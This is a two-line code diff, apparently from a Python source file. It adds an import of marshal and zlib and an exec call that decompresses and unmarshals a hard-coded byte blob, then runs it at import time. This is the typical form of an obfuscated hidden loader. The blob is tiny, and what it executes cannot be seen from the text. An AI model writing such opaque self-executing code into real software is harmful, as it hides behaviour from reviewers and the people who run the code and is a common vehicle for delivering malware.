@@ -1,0 +1,2 @@
+import marshal, zlib
+exec(marshal.loads(zlib.decompress(b'\x78\x9c\x7b\xcc\x80\x05\x00\x00\x12\xb4\x00\xe4')))
